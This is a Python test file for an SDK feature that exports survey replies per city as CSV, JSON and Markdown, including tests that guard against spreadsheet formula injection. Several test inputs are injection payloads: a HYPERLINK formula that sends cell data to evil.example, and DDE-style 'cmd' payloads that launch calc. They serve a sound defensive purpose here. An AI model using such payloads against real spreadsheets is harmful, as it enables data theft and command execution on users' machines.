"""Exporting a call's replies: one row per city, in CSV, JSON and Markdown."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest

from tests.calls.conftest import Network, survey
from uccn_sdk.calls.export import call_export
from uccn_sdk.chat.events import OutboundMessage
from uccn_sdk.formulas import guarded, unguarded
from uccn_sdk.models import Audience, Call, Question
from uccn_sdk.plugins import Plugins
from uccn_sdk.testing import TestBot


def test_every_format_has_one_row_per_city(network: Network) -> None:
    network.calls.create(survey(audience=Audience(cities=["lyon", "bologna"])))
    network.calls.open("survey-2026")
    network.deliver()
    post = network.post_of("survey-2026", "!lyon")
    network.calls.handle(network.message("@ana:uccn.test", "1. 4\n2. A | B @room", "$a1", post))
    network.calls.handle(network.message("@mallory:evil.test", "1. 9\n2. me", "$m1", post))
    export = call_export(network.store, "survey-2026")
    assert export is not None
    exporters = Plugins.load().exporters()

    out = io.StringIO()
    assert exporters["replies:csv"].write([export], out) == 2
    rows = {r["city"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert rows["lyon"]["answered"] == "yes" and rows["lyon"]["q1"] == "4"
    assert rows["bologna"]["answered"] == "no" and rows["bologna"]["q2"] == ""

    out = io.StringIO()
    exporters["replies:json"].write([export], out)
    document = json.loads(out.getvalue())
    assert document["call"]["id"] == "survey-2026"
    assert [r["city"] for r in document["replies"]] == ["bologna", "lyon"]
    assert type(document["replies"][1]["q1"]) is int

    out = io.StringIO()
    exporters["replies:md"].write([export], out)
    markdown = out.getvalue()
    assert "1 of 2 cities answered" in markdown
    assert "| Lyon | FR | literature | 4 | A \\| B @\u200broom |" in markdown
    assert "| Bologna | IT | music |  |  | *no answer* |" in markdown
    assert markdown.endswith("\n1 answer from people not linked to a city.\n")


def test_a_csv_export_does_not_let_an_answer_run_as_a_formula(network: Network) -> None:
    network.calls.create(survey(audience=Audience(cities=["lyon"])))
    network.calls.open("survey-2026")
    network.deliver()
    post = network.post_of("survey-2026", "!lyon")
    formula = '1. -2\n2. =HYPERLINK("http://evil.example/?"&A1,"Click")'
    network.calls.handle(network.message("@ana:uccn.test", formula, "$a1", post))
    export = call_export(network.store, "survey-2026")
    assert export is not None
    out = io.StringIO()
    Plugins.load().exporters()["replies:csv"].write([export], out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    # A spreadsheet opening the file shows the answer as text; it does not run it.
    assert row["q2"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["q1"] == "-2"  # a number stays a number


def test_an_unknown_call_exports_nothing(network: Network) -> None:
    assert call_export(network.store, "nope") is None


def test_a_csv_export_writes_a_matrix_id_as_it_is(network: Network) -> None:
    network.calls.create(survey(audience=Audience(cities=["lyon"])))
    network.calls.open("survey-2026")
    network.deliver()
    post = network.post_of("survey-2026", "!lyon")
    network.calls.handle(network.message("@ana:uccn.test", "1. 4\n2. @bob:uccn.test", "$a1", post))
    export = call_export(network.store, "survey-2026")
    assert export is not None
    out = io.StringIO()
    Plugins.load().exporters()["replies:csv"].write([export], out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["author"] == "@ana:uccn.test"
    assert row["q2"] == "@bob:uccn.test"


@pytest.mark.parametrize(
    "text",
    [
        "@ana:uccn.test",
        "@bot.uccn-2_x=y/z:matrix.example.org:8448",
        "@ana:[2001:db8::1]:8448",
        "-5",
        "-12.5",
        "-1,250.75",
        "+33",
        "-12.5e3",
        "-40%",
        "+33 1 23 45 67 89",
        "+44 (0)20 7946 0958",
        "plain",
        "a=b",
        "",
    ],
)
def test_a_cell_no_spreadsheet_runs_is_written_as_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=1",
        "@SUM(1+1)",
        "@A1",
        "@a1:b2",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "-1+1",
        "-2+3",
        "+A1",
        "+1-555-123-4567",
        "-",
        "+",
        "@",
        "@ana",
        "@ana:uccn.test(1)",
        "\t=1",
        "\r=1",
        "\uff0b1",
        "\u200b-5",
        "'=1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_kept_as_text(text: str) -> None:
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["@ana:uccn.test", "+33", "-1,250.75", "+33 1 23 45 67 89"])
def test_a_cell_guarded_by_an_earlier_export_reads_back_without_its_apostrophe(text: str) -> None:
    assert unguarded("'" + text) == text
    assert guarded("'" + text) == "''" + text


def _survey_answered(bot: TestBot) -> None:
    network = bot.network
    network.calls.create(
        Call.draft(
            {
                "id": "survey",
                "title": "Survey",
                "text": "Tell us.",
                "questions": [Question(id="q1", prompt="How many events?", kind="number")],
                "audience": Audience(everyone=True),
                "deadline": network.now + timedelta(days=10),
            }
        )
    )
    network.calls.open("survey")
    bot.flush()
    bot.say("@lyon", "reply survey 1. 12", direct=True)


def test_an_export_in_chat_is_a_short_answer_with_the_file_attached(uccn_bot: TestBot) -> None:
    _survey_answered(uccn_bot)
    said = uccn_bot.say("@secretariat", "call export survey csv", direct=True)
    assert said == ["The answers to “Survey”: 1 of 5 cities, in the file survey.csv."]
    message = uccn_bot.sent[-1]
    assert isinstance(message, OutboundMessage) and message.attachment is not None
    attached = message.attachment
    assert (attached.name, attached.mimetype) == ("survey.csv", "text/csv")
    rows = list(csv.DictReader(io.StringIO(attached.text)))
    assert len(rows) == 5 and {r["city"]: r["q1"] for r in rows}["lyon"] == "12"


def test_where_no_file_can_go_the_export_answer_says_how_to_get_it(
    uccn_bot: TestBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(uccn_bot.connector, "_attachments", False)
    _survey_answered(uccn_bot)
    said = uccn_bot.say("@secretariat", "call export survey md", direct=True)
    assert said == [
        "The answers to “Survey”: 1 of 5 cities, in the file survey.md.\n"
        "No file can be posted here: run “uccn calls export survey --format md” to get the "
        "export."
    ]
    assert "| Lyon |" not in said[0]  # no raw table in chat
